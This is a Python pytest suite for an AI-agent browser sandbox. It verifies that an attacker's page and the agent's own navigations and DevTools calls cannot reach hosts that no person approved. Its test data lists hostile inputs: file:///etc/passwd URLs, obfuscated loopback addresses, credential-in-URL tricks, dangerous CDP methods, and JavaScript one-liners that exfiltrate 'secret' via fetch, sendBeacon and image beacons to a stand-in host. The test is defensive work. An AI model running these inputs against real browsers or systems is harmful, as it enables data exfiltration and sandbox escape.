"""An attacker's page in an agent's real browser, in a whole install: every way out that is known is tried, and nothing
reaches anybody whom no person allowed. The same page with a person's yes to all of its hosts reaches them.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import Callable, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass

import docker
import pytest

from orchestrator.browser.faults import BrowserError
from orchestrator.browser.session import BrowserSession
from orchestrator.capabilities.browser.site_access import SiteAccess
from orchestrator.core.models import CubicleKey
from orchestrator.gate.traffic import HostUsage
from orchestrator.web.limits import Internet
from tests.support.exits_site import SHUT, TLS_NAMES, TOP_WAYS, WAYS, ExitsSite, exits_town, hosts_of
from tests.support.fake_internet import OTHER, PUBLIC, make_certificate, opened
from tests.support.real_app import Ran, RealApp, Talker, real_install, run_inside

pytestmark = pytest.mark.docker

SHOP, SECURE = "http://shop.test", "https://secure.test"
WALLED, GRANTED = "walled", "granted"


@dataclass(frozen=True)
class Harvest:
    """What came of the page on both sides."""

    site: ExitsSite
    refused: frozenset[tuple[str, int, str]]
    """Hosts, ports and reasons, of the side without a yes."""
    looked_up: frozenset[str]
    """Every name that was looked up, but for what the other side has a yes to."""


@pytest.fixture(scope="module")
def site() -> ExitsSite:
    """All of the internet."""
    return ExitsSite(exits_town(WALLED, GRANTED))


@pytest.fixture(scope="module")
def install(
    tmp_path_factory: pytest.TempPathFactory,
    client: docker.DockerClient,
    image_tag: Callable[[str], str],
    site: ExitsSite,
) -> Iterator[RealApp]:
    """An install whose way out leads there."""
    folder = tmp_path_factory.mktemp("certificate")
    _, tls = make_certificate(folder, ",".join(f"DNS:{name}" for name in TLS_NAMES))
    with opened(site) as plain, opened(site, tls) as secure:
        site.town.sites.update({PUBLIC: plain, OTHER: secure})
        with real_install(tmp_path_factory.mktemp("home"), client, image_tag, internet=Internet(site.town)) as made:
            yield made


@pytest.fixture(scope="module")
def harvest(install: RealApp, site: ExitsSite) -> Harvest:
    """Without a yes to anything but the attacker's two sites, and with one to every host."""
    also = [f"{GRANTED}.test", *(f"{host} with shop.test" for host in hosts_of(GRANTED))]
    walled, granted = shopper(install), shopper(install, also)
    with ThreadPoolExecutor(2) as pool:
        both = [pool.submit(go_through, install, agent, side) for agent, side in ((walled, WALLED), (granted, GRANTED))]
        for one in both:
            one.result()
    refused = frozenset((one.host, one.port, one.reason) for one in usage(install, walled) if one.reason)
    run(install, granted, "close")
    run(install, walled, "close")
    looked_up = frozenset(name for name in site.town.looked_up if not name.endswith(f".{GRANTED}.test"))
    return Harvest(site, refused, looked_up)


def shopper(install: RealApp, also: Sequence[str] = ()) -> Talker:
    """An agent that may open the shop, by http and by https, and what else is named; it is in the shop."""
    agent = install.agent(toolsets=["browser"])
    agent.wake()
    for subject in ("shop.test", "secure.test", *also):
        grant = {"kind": "site", "subject": subject, "scope": "always"}
        install.api.post(f"/agents/{agent.name}/grants", grant)
    assert run(install, agent, "open", f"{SHOP}/").code == 0
    trust_certificates(install, agent)
    return agent


def trust_certificates(install: RealApp, agent: Talker) -> None:
    """No agent can do that, and no part of the product does."""

    async def trust(session: BrowserSession) -> None:
        supervisor = session.supervisor
        ignore = {"ignore": True}
        await supervisor.wire.call("Security.setIgnoreCertificateErrors", supervisor.tabs.current, ignore)

    drive(install, agent, trust)


def drive(install: RealApp, agent: Talker, work: Callable[[BrowserSession], object]) -> None:
    """Something that is done with the agent's browser behind the back of the product."""
    install.app._capabilities.browsers.call(key_of(agent), work)  # type: ignore[arg-type]


def key_of(agent: Talker) -> CubicleKey:
    """Of its cubicle."""
    return CubicleKey(agent.name, agent.user)


def run(install: RealApp, agent: Talker, *words: str) -> Ran:
    """A command of the browser."""
    return run_inside(install.client, agent, "hermit", "browser", *words)


def opened_page(install: RealApp, agent: Talker, url: str) -> Ran:
    """A page; a person says yes where they are asked."""
    with ThreadPoolExecutor(1) as pool:
        opening = pool.submit(run, install, agent, "open", url)
        while not opening.done():
            for one in install.api.get("/approvals", status="pending")["approvals"]:
                if one["agent"] == agent.name:
                    install.api.post(f"/approvals/{one['id']}", {"decision": "approve"})
            with contextlib.suppress(TimeoutError):
                opening.result(0.2)
    assert opening.result().code == 0, opening.result()
    return opening.result()


def go_through(install: RealApp, agent: Talker, side: str) -> None:
    """All ways of a side, each in a frame or, where it takes the page along or needs a click, alone; then those in
    frames again from a page with a certificate."""
    opened_page(install, agent, f"{SHOP}/shut")
    opened_page(install, agent, f"{SHOP}/all?{side}")
    run(install, agent, "wait", "1")

    async def alone(session: BrowserSession) -> None:
        if side == GRANTED:  # a grant alone asks again once another site was read
            access_of(session).allow_once(f"{GRANTED}.test")
        for name in TOP_WAYS:
            with contextlib.suppress(BrowserError):  # it went somewhere else meanwhile, which is what it tries
                await session.open(f"{SHOP}/try?try={name}&side={side}")
                click = "setTimeout(() => document.getElementById('go')?.click())"
                await session.raw("Runtime.evaluate", {"expression": click, "userGesture": True})
            await asyncio.sleep(0.3)
            for tab in session.tabs()[1:]:
                with contextlib.suppress(BrowserError):
                    await session.close_tab(tab.number)
        await session.open(f"{SHOP}/")

    drive(install, agent, alone)
    opened_page(install, agent, f"{SECURE}/")
    if side == GRANTED:
        drive(install, agent, allow_all)  # the same as grants, of which an agent has 200 at most
    opened_page(install, agent, f"{SECURE}/all?{side}")
    run(install, agent, "wait", "1")


def access_of(session: BrowserSession) -> SiteAccess:
    """What the browser may reach."""
    access = session.supervisor._policy
    assert isinstance(access, SiteAccess)
    return access


async def allow_all(session: BrowserSession) -> None:
    """Until the site is left, the hosts of the granted side are its companions."""
    access_of(session).allow_companions("secure.test", hosts_of(GRANTED))


def usage(install: RealApp, agent: Talker) -> tuple[HostUsage, ...]:
    """What the gate of this agent's browser let through, and what not."""
    (gate,) = [one for one in install.app._gates._open if one.user.cubicle == key_of(agent)]
    return gate.usage()


@pytest.mark.parametrize("way", WAYS)
def test_nothing_reaches_anybody(harvest: Harvest, way: str) -> None:
    """No request, no connection, no look-up of a name."""
    assert way not in harvest.site.reached(WALLED)


def test_the_ways_are_real(harvest: Harvest) -> None:
    """With a yes to their hosts, nearly all of them arrive."""
    reached = harvest.site.reached(GRANTED)
    for sort in ("fetch", "img", "css", "link", "location", "form", "srcdoc", "worker", "click", "redirect", "twin"):
        assert any(name.startswith(sort) for name in reached), sort
    assert len(reached & set(WAYS)) > len(WAYS) * 0.75, sorted(set(WAYS) - reached)


def test_no_other_name_is_looked_up(harvest: Harvest) -> None:
    """Of all that the page names, only what is the sites' own."""
    own = ("shop.test", "secure.test")
    assert {name for name in harvest.looked_up if not name.endswith(own)} == set()
    assert {host for host, _, _ in harvest.site.heads if not host.endswith(f".{GRANTED}.test")} <= set(own)


@pytest.mark.parametrize("way", SHUT)
def test_what_nobody_can_open_is_refused(harvest: Harvest, way: str) -> None:
    """It was tried, and the gate says why not."""
    _, host, port, reason = SHUT[way]
    assert (host, port, reason) in harvest.refused


def evaluate(install: RealApp, agent: Talker, script: str) -> str:
    """What a script gives that the agent runs in the page."""
    asked = {"expression": script, "awaitPromise": True, "returnByValue": True}
    ran = run(install, agent, "cdp", "Runtime.evaluate", json.dumps(asked))
    assert ran.code == 0, ran
    return str(json.loads(ran.out)["result"].get("value", ""))


def fetched(install: RealApp, agent: Talker, url: str) -> bool:
    """The page gets something from there."""
    script = f"fetch('{url}', {{mode: 'no-cors', cache: 'no-store'}}).then(() => 'yes', () => 'no')"
    return evaluate(install, agent, script) == "yes"


def connections(install: RealApp, agent: Talker, host: str, reason: str = "") -> int:
    """How many were let through to this host; with a reason, how many were not, or were cut."""
    return sum(one.connections for one in usage(install, agent) if (one.host, one.reason) == (host, reason))


def test_a_companion_is_for_its_site_alone(install: RealApp, site: ExitsSite) -> None:
    """A tunnel that pages of one site left open is of no use to the first page of the next one."""
    agent = shopper(install, ["static.test with secure.test"])
    assert not fetched(install, agent, "https://static.test/from-the-shop")
    opened_page(install, agent, f"{SECURE}/")
    assert fetched(install, agent, "https://static.test/1")
    before = connections(install, agent, "static.test")
    assert fetched(install, agent, "https://static.test/2")
    assert connections(install, agent, "static.test") == before, "the tunnel is kept"
    assert connections(install, agent, "static.test", "permission-ended") == 0
    opened_page(install, agent, "https://bank.test/greedy")
    assert evaluate(install, agent, "document.title") == "nothing"
    assert connections(install, agent, "static.test", "permission-ended") >= 1
    assert not fetched(install, agent, "https://static.test/from-the-bank")
    assert [target for host, _, target in site.heads if host == "static.test"] == ["/1", "/2"]
    run(install, agent, "close")


def test_what_is_taken_back_is_cut(install: RealApp, site: ExitsSite) -> None:
    """With the agent's next call, open tunnels too; a yes until a site is left ends there."""
    agent = shopper(install, ["fonts.test with secure.test"])
    opened_page(install, agent, f"{SECURE}/")
    assert fetched(install, agent, "https://fonts.test/1")
    (grant,) = [
        one["id"] for one in install.api.get(f"/agents/{agent.name}/grants")["grants"] if "fonts" in one["subject"]
    ]
    assert install.api.call("DELETE", f"/agents/{agent.name}/grants/{grant}").ok
    run(install, agent, "snapshot")
    assert connections(install, agent, "fonts.test", "permission-ended") >= 1
    assert not fetched(install, agent, "https://fonts.test/2")
    opened_page(install, agent, "https://bank.test/once")
    assert fetched(install, agent, "https://bank.test/1")
    opened_page(install, agent, f"{SHOP}/")
    assert not fetched(install, agent, "https://bank.test/2")
    told = [(host, target) for host, _, target in site.heads if target in ("/1", "/2") and host != "static.test"]
    assert told == [("fonts.test", "/1"), ("bank.test", "/1")]
    run(install, agent, "close")


OPENED = (
    "file:///etc/passwd",
    "chrome://version",
    "view-source:http://shop.test/",
    "data:text/html,<h1>x</h1>",
    "javascript:alert(1)",
    "blob:http://shop.test/5c0e",
    "about:blank",
    "ftp://shop.test/",
    "devtools://devtools/bundled/inspector.html",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://017700000001/",
    "http://127.1/",
    "http://[::1]/",
    "http://localhost/",
    "http://shop.test@walled.test/",
    "http://user:word@shop.test/",
    "http://shop.test:8080/",
    "http://shop.test\\@walled.test/",
    "http://router/",
)
CALLED = {
    "Page.navigate": {"url": "http://own.walled.test/"},
    "Target.createTarget": {"url": "http://own.walled.test/"},
    "Network.loadNetworkResource": {"url": "http://own.walled.test/", "options": {"disableCache": True}},
    "Network.setCookie": {"name": "a", "value": "b", "url": "http://shop.test/"},
    "Network.getAllCookies": {},
    "Fetch.disable": {},
    "Fetch.enable": {},
    "Security.setIgnoreCertificateErrors": {"ignore": True},
    "Browser.setDownloadBehavior": {"behavior": "allow", "downloadPath": "/tmp"},
    "Storage.getCookies": {},
    "IO.read": {"handle": "1"},
    "Page.addScriptToEvaluateOnNewDocument": {"source": "1"},
    "Page.setDownloadBehavior": {"behavior": "allow", "downloadPath": "/tmp"},
    "DOM.setFileInputFiles": {"files": ["/etc/passwd"]},
    "ServiceWorker.enable": {},
    "SystemInfo.getInfo": {},
    "Tethering.bind": {"port": 8080},
}
LEFT = (
    "location.href = 'http://own.walled.test/?secret'",
    "location.href = 'file:///etc/passwd'",
    "location.href = 'chrome://version'",
    "location.href = 'view-source:http://own.walled.test/'",
    "location.href = 'data:text/html,<img src=http://own.walled.test/>'",
    "location.href = 'http://127.0.0.1:3128/'",
    "open('http://own.walled.test/')",
    "open('file:///etc/passwd')",
    "fetch('http://own.walled.test/', {method: 'POST', body: 'secret', mode: 'no-cors'})",
    "navigator.sendBeacon('http://own.walled.test/', 'secret')",
    "new Image().src = 'http://own.walled.test/?secret'",
)


def test_an_agents_own_deeds_lead_nowhere(install: RealApp, site: ExitsSite) -> None:
    """What it opens, which methods it calls, and what it runs in a page that it may see."""
    agent = shopper(install)
    looked_up, heads = len(site.town.looked_up), len(site.heads)
    for url in OPENED:
        ran = run_inside(install.client, agent, "timeout", "20", "hermit", "browser", "open", url)
        assert ran.code not in (0, 124), (url, ran)
    for method, params in CALLED.items():
        ran = run(install, agent, "cdp", method, json.dumps(params))
        assert "not among the methods" in ran.err, (method, ran)
    for script in LEFT:
        run(install, agent, "cdp", "Runtime.evaluate", json.dumps({"expression": script}))
        origin = evaluate(install, agent, "location.origin")
        assert origin in (SHOP, "null"), script
        if origin == "null":  # a refused page is an empty one, from which less can be tried
            opened_page(install, agent, f"{SHOP}/")
    assert install.api.get("/approvals", status="pending")["approvals"] == []
    assert set(site.town.looked_up[looked_up:]) <= {"shop.test"}
    assert {host for host, _, _ in site.heads[heads:]} <= {"shop.test"}
    run(install, agent, "close")
